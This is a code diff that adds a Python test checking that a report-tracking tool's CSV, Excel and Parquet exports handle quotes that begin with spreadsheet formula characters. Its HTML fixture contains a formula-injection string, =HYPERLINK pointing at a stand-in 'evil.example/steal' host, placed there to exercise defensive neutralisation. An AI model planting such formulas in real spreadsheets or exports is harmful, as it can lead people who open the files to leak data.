@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import json
@@ -148,3 +149,41 @@ def test_a_pdf_without_a_text_layer_is_recorded_as_such(tmp_path):
     assert rows(home, "SELECT has_text, document_type FROM publications") == [(False, "pdf")]
     status = run_cli(home, "status").stdout
     assert re.search(r"^kingsfund\s+1\s+0\s+1\s", status, re.M), status  # documents, relevant, no text layer
+
+
+FORMULA_PAGE = """<html><head><title>Kark review: where things stand</title></head><body><main>
+<h1>Kark review: where things stand</h1>
+<p>=HYPERLINK("https://evil.example/steal","open") Recommendation 2 of the Kark review is being implemented by NHS England.</p>
+<p>+Recommendation 3 of the Kark review has been implemented by NHS England.</p>
+<p>-Recommendation 4 of the Kark review has been implemented by NHS England.</p>
+<p>@SUM(1+1) Recommendation 5 of the Kark review is being implemented by NHS England.</p>
+</main></body></html>"""
+
+
+def test_quotes_that_look_like_formulas_are_neutralised_in_csv_and_exact_elsewhere(tmp_path):
+    from openpyxl import load_workbook
+
+    home = tmp_path / "home"
+    page = tmp_path / "formulas.html"
+    page.write_text(FORMULA_PAGE, encoding="utf-8")
+    url = "https://nhsproviders.org/news-blogs/blogs/kark-where-things-stand"
+    run_cli(home, "ingest", str(page), "--url", url, "--source", "nhsproviders", "--published", "2024-03-05")
+    run_cli(home, "run", "--offline")
+    quotes = {n: q for n, q in rows(home, "SELECT number, quote FROM status_evidence")}
+    assert sorted(q[0] for q in quotes.values()) == ["+", "-", "=", "@"]  # the hostile text reached the warehouse
+
+    latest = home / "exports" / "latest"
+    with open(latest / "status_evidence.csv", encoding="utf-8-sig", newline="") as fh:
+        csv_quotes = {int(r["number"]): r["quote"] for r in csv.DictReader(fh)}
+    assert csv_quotes == {n: "'" + q for n, q in quotes.items()}
+    with open(latest / "status_changes.csv", encoding="utf-8-sig", newline="") as fh:
+        assert {r["quote"] for r in csv.DictReader(fh)} == {"'" + q for q in quotes.values()}
+
+    sheet = load_workbook(latest / "tracker.xlsx")["status_evidence"]
+    header = [c.value for c in sheet[1]]
+    cells = {row[header.index("number")].value: row[header.index("quote")] for row in sheet.iter_rows(min_row=2)}
+    assert {n: c.value for n, c in cells.items()} == quotes and {c.data_type for c in cells.values()} == {"s"}
+
+    con = duckdb.connect()
+    parquet = str(latest / "status_evidence.parquet")
+    assert dict(con.execute("SELECT number, quote FROM read_parquet(?)", [parquet]).fetchall()) == quotes
